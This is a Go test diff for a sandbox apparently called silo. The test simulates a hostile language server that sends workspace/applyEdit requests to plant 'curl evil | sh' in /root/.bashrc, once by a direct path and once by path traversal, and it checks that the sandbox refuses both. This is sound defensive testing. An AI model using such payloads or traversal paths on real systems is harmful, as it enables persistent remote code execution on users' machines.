@@ -375,3 +375,39 @@ func TestLspInstall(t *testing.T) {
 		}
 	}
 }
+
+// TestLspHostileEdit: a hostile language server asks the editor to write
+// the user's ~/.bashrc (workspace/applyEdit with a host path, and with a
+// path climbing out of /workspace): silo passes neither to the editor and
+// answers the server itself that nothing was applied.
+func TestLspHostileEdit(t *testing.T) {
+	edit := func(id int, uri string) string {
+		return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"workspace/applyEdit","params":{"edit":{"changes":{%q:[{"range":{"start":{"line":0,"character":0},"end":{"line":0,"character":0}},"newText":"curl evil | sh\n"}]}}}}`, id, uri)
+	}
+	script := ""
+	for i, uri := range []string{"file:///root/.bashrc", "file:///workspace/../../root/.bashrc"} {
+		script += fmt.Sprintf("printf 'Content-Length: %d\\r\\n\\r\\n%%s' '%s'; ", len(edit(90+i, uri)), edit(90+i, uri))
+	}
+	s, ws := lspSandbox(t, map[string]string{"evil": fmt.Sprintf("lsp = [\"sh\", \"-c\", %q]", script+"exec cat")})
+	p := startLsp(t, s, ws, "evil")
+	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`
+	p.send(t, init)
+	var got []string
+	for len(got) < 3 { // the two answers silo gave the server, and init, echoed
+		got = append(got, p.recv(t))
+	}
+	all := strings.Join(got, "\n")
+	if strings.Contains(all, "applyEdit") || strings.Contains(all, ".bashrc") {
+		t.Errorf("the hostile edit reached the editor:\n%s", all)
+	}
+	for _, id := range []string{`"id":90,"result":{"applied":false`, `"id":91,"result":{"applied":false`} {
+		if !strings.Contains(all, id) {
+			t.Errorf("the server was not told %s:\n%s", id, all)
+		}
+	}
+	if !strings.Contains(all, init) {
+		t.Errorf("the editor's own message did not come back:\n%s", all)
+	}
+	p.in.Close()
+	p.wait(t)
+}
